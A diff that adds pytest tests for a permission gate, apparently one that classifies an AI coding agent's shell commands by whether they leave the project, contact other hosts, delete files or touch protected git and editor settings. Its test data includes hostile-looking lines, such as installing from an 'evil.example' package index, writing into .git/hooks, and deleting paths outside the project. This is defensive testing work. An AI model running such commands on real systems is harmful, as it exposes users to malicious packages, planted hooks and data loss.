@@ -4,6 +4,8 @@ from __future__ import annotations
 
 import os
 import sqlite3
+import uuid
+from collections.abc import Iterator
 from datetime import datetime
 from pathlib import Path
 
@@ -12,8 +14,25 @@ import pytest
 from desktop.database import Database, migrate
 from desktop.errors import UserFacing
 from desktop.events import Bus
+from desktop.gate.commands import Commands
 from desktop.gate.migrations import MIGRATIONS
-from desktop.gate.projects import DAY_S, ProjectModeChanged, Projects, Span
+from desktop.gate.projects import (
+    DAY_S,
+    ProjectDuration,
+    ProjectModeChanged,
+    Projects,
+    Scratch,
+    beyond,
+    deleted,
+    is_near,
+    is_protected,
+    leads_out,
+    stays_in_scratch,
+)
+from desktop.gate.request import Request
+from desktop.gate.shell.classifier import Classifier
+from desktop.gate.shell.tables import Tables
+from desktop.paths import resources
 
 
 class Clock:
@@ -174,9 +193,9 @@ def test_the_root_is_the_repository(projects: Projects, home: Path, folder: Path
 def test_spans_end_when_they_say() -> None:
     """Today ends at the next midnight of the user's clock, a week after seven days, the last never."""
     now = datetime(2026, 3, 4, 15, 30).timestamp()
-    assert Span.TODAY.end(now) == datetime(2026, 3, 5).timestamp()
-    assert Span.WEEK.end(now) == now + 7 * DAY_S
-    assert Span.UNTIL_REVOKED.end(now) is None
+    assert ProjectDuration.TODAY.end(now) == datetime(2026, 3, 5).timestamp()
+    assert ProjectDuration.WEEK.end(now) == now + 7 * DAY_S
+    assert ProjectDuration.UNTIL_REVOKED.end(now) is None
 
 
 def test_an_older_file_keeps_its_grants(tmp_path: Path) -> None:
@@ -195,3 +214,223 @@ def test_an_older_file_keeps_its_grants(tmp_path: Path) -> None:
     assert connection.execute("SELECT count(*) FROM projects").fetchone()[0] == 0
     connection.close()
     assert os.path.exists(path)
+
+
+ROOT = Path("/home/me/project")
+COMMANDS = Commands(Classifier(Tables(resources() / "commands"), remember=False))
+
+
+def request_for(line: str) -> Request:
+    verdict = COMMANDS.verdict(line, "bash", str(ROOT), str(ROOT))
+    return COMMANDS.request(verdict, line, ROOT, "Bash", "1", project=ROOT)
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "npm ci",
+        "npm test",
+        "pip install requests",
+        "cargo fetch",
+        "go mod download",
+        "uv sync && uv run pytest",
+        "poetry install",
+        "git add . && git commit -m x",
+        "git checkout -b topic",
+        "docker ps",
+        "make",
+        "curl -o out.json http://localhost:3000/x",
+        "echo x > .gitignore",
+    ],
+)
+def test_a_day_of_work_stays_in_the_project(line: str) -> None:
+    """Building, testing, committing and installing from a package index need nothing else."""
+    assert beyond(request_for(line)) == ""
+
+
+@pytest.mark.parametrize(
+    ("line", "reason"),
+    [
+        ("docker compose up -d", "what docker does lies beyond any folder"),
+        ("sudo -u x true; apt install jq", "what apt does lies beyond any folder"),
+        ("npm test; pkill node", "what pkill does lies beyond any folder"),
+        ("git pull", "git talks to another computer"),
+        ("gh pr create --title x", "gh talks to another computer"),
+        ("pip install --index-url http://evil.example/simple x", "evil.example is no package index"),
+        ("wget -O x https://github.com/a", "github.com is no package index"),
+        ("git config user.name x", "git config changes what git obeys"),
+        ("cp x .git/hooks/pre-commit", ".git/hooks/pre-commit rules what other programs run"),
+        ("echo x >> sub/.git/config", "sub/.git/config rules what other programs run"),
+        ("cd sub && touch ../.vscode/tasks.json", "sub/../.vscode/tasks.json rules what other programs run"),
+    ],
+)
+def test_what_would_fail_in_the_project_asks(line: str, reason: str) -> None:
+    """Services, other hosts and git's own orders are told before the command fails."""
+    assert beyond(request_for(line)) == reason
+
+
+@pytest.mark.parametrize(
+    ("host", "near"),
+    [
+        ("localhost", True),
+        ("127.0.0.1", True),
+        ("[::1]", True),
+        ("pypi.org", True),
+        ("cdn.pypi.org.evil.example", False),
+        ("static.crates.io", True),
+        ("notcrates.io", False),
+        ("10.0.0.1", False),
+        ("", False),
+    ],
+)
+def test_near_are_this_computer_and_package_indexes(host: str, near: bool) -> None:
+    """Whole names, and what lies below those with a dot in front."""
+    assert is_near(host) is near
+
+
+@pytest.mark.parametrize(
+    ("line", "paths"),
+    [
+        ("rm a b/c", ("/home/me/project/a", "/home/me/project/b/c")),
+        ("rm -rf node_modules && npm ci", ("/home/me/project/node_modules",)),
+        ("rm -rf *.log", ("/home/me/project/*.log",)),
+        ("rm -rf $X", None),
+        ("rm -rf ../x", None),
+        ("rm -rf .", None),
+        ("git branch -D x", None),
+        ("kill 1", None),
+    ],
+)
+def test_what_a_line_deletes_is_told_or_not_at_all(line: str, paths: tuple[str, ...] | None) -> None:
+    """Paths in the project; None where one lies elsewhere, is not told, or is no file."""
+    assert deleted(request_for(line)) == paths
+
+
+@pytest.mark.parametrize(
+    ("path", "protected"),
+    [
+        (".git/config", True),
+        (".git/hooks/pre-push", True),
+        (".git", True),
+        (".envrc", True),
+        (".vscode/tasks.json", True),
+        (".idea/x/y", True),
+        (".vscode/other.json", False),
+        (".git/index", False),
+        (".github/x", False),
+        ("src/a.py", False),
+    ],
+)
+def test_settings_and_hooks_are_protected(path: str, protected: bool) -> None:
+    """What git, agents and editors obey; what a commit writes is not among it."""
+    assert is_protected(path) is protected
+
+
+def test_hosts_of_the_users_are_near() -> None:
+    """A name by itself, and with a dot in front all below it; nothing beside them."""
+    more = ["files.example", ".example.org"]
+    for host in ("files.example", "a.b.example.org", "pypi.org"):
+        assert beyond(request_for(f"wget -O x https://{host}/a"), more) == ""
+    for host in ("a.files.example", "example.org", "github.com"):
+        assert beyond(request_for(f"wget -O x https://{host}/a"), more) == f"{host} is no package index"
+
+
+FREE = "/tmp/steward-test-that-nobody-makes"
+
+
+@pytest.mark.parametrize(
+    ("line", "stays"),
+    [
+        (f"echo x > {FREE}", True),
+        (f"go build -o {FREE}/a . && {FREE}/a run > out.txt", True),
+        (f"mkdir -p {FREE} && echo x > {FREE}/a && rm -rf {FREE}", True),
+        (f"echo x > {FREE} && echo x > ~/notes", False),
+        (f"echo x > {FREE}/../other/x && echo y > /etc/x", False),
+        (f"cp a {FREE} && cp a ../b", False),
+        (f"echo x > {FREE}; rm -rf /opt/x", False),
+        ("echo x > /etc/x", False),
+        ("echo x > out.txt", False),
+    ],
+)
+def test_what_stays_in_tmp_is_known(line: str, stays: bool) -> None:
+    """Only where every change beyond the project lies in a place of the project's own."""
+    assert stays_in_scratch(request_for(line)) is stays
+
+
+def test_its_own_in_tmp_needs_no_copies() -> None:
+    """What a project made there itself is not kept before it is deleted; what lies in the project is."""
+    assert deleted(request_for(f"rm -rf {FREE}")) == ()
+    assert deleted(request_for(f"rm -rf {FREE} src")) == (str(ROOT / "src"),)
+    for place in ("/opt/x", "~/x"):
+        assert deleted(request_for(f"rm -rf {FREE} {place}")) is None
+
+
+@pytest.fixture
+def entry() -> Iterator[Path]:
+    """A name in /tmp at which nothing stands."""
+    place = Path("/tmp") / f"steward-test-{uuid.uuid4().hex}"
+    yield place
+    if place.is_dir():
+        for each in sorted(place.rglob("*"), reverse=True):
+            each.rmdir() if each.is_dir() else each.unlink()
+        place.rmdir()
+    place.unlink(missing_ok=True)
+
+
+def test_what_was_there_before_is_taken(tmp_path: Path) -> None:
+    """A session may go on with a file that was not there when it named it first; another may not."""
+    scratch, place = Scratch(), tmp_path / "out.txt"
+    assert scratch.taken("one", [str(place)]) == ()
+    place.write_text("x")
+    assert scratch.taken("one", [str(place)]) == ()
+    assert scratch.taken("two", [str(place)]) == (str(place),)
+
+
+def test_a_link_is_never_its_own(tmp_path: Path) -> None:
+    """Whoever put it there meanwhile may have led it elsewhere."""
+    scratch, place = Scratch(), tmp_path / "out.txt"
+    scratch.taken("one", [str(place)])
+    place.symlink_to(tmp_path)
+    assert scratch.taken("one", [str(place)]) == (str(place),)
+
+
+def test_what_a_project_made_in_tmp_is_its_own(entry: Path) -> None:
+    """The whole entry, however deep the line goes into it; for another project it is somebody else's."""
+    scratch, home = Scratch(), Path("/home/me")
+    assert scratch.places("one", "", home, [f"{entry}/a/b", str(entry), "x", "/etc/x"]) == (str(entry),)
+    entry.mkdir()
+    assert scratch.places("one", "", Path("/tmp"), [f"{entry.name}/c"]) == (str(entry),)
+    assert scratch.places("two", "", home, [f"{entry}/c"]) == ()
+
+
+@pytest.mark.parametrize("path", ["/tmp", "/tmp/..", "/tmp/../etc/x", "~/x", "/var/tmp/x", "/tmp/a\0b"])
+def test_only_entries_of_tmp_are_places(path: str) -> None:
+    """Neither the folder itself nor what lies elsewhere."""
+    assert Scratch().places("one", "", Path("/home/me"), [path]) == ()
+
+
+def test_a_folder_named_as_the_session_is_its_own(entry: Path) -> None:
+    """Agents give their model such a folder; a short name, another's, or one behind a link is none."""
+    session = uuid.uuid4().hex
+    own = entry / "work" / session
+    own.mkdir(parents=True)
+    scratch, home = Scratch(), Path("/home/me")
+    wanted = [f"{own}/notes/a.txt"]
+    assert scratch.places("one", session, home, wanted) == (str(own),)
+    assert scratch.places("one", uuid.uuid4().hex, home, wanted) == ()
+    assert scratch.places("one", "work", home, wanted) == ()
+    (entry / "link").symlink_to(entry / "work")
+    assert scratch.places("one", session, home, [f"{entry}/link/{session}/a"]) == ()
+
+
+def test_links_lead_out(tmp_path: Path) -> None:
+    """Of what is written at a path, and of a file that has a second name."""
+    inside, outside = tmp_path / "in", tmp_path / "out"
+    inside.mkdir()
+    outside.mkdir()
+    (outside / "file").write_text("x")
+    (inside / "link").symlink_to(outside)
+    (inside / "plain").write_text("x")
+    os.link(outside / "file", inside / "same")
+    told = {name: leads_out(str(inside / name), [str(inside)]) for name in ("link/x", "same", "plain", "new")}
+    assert told == {"link/x": True, "same": True, "plain": False, "new": False}
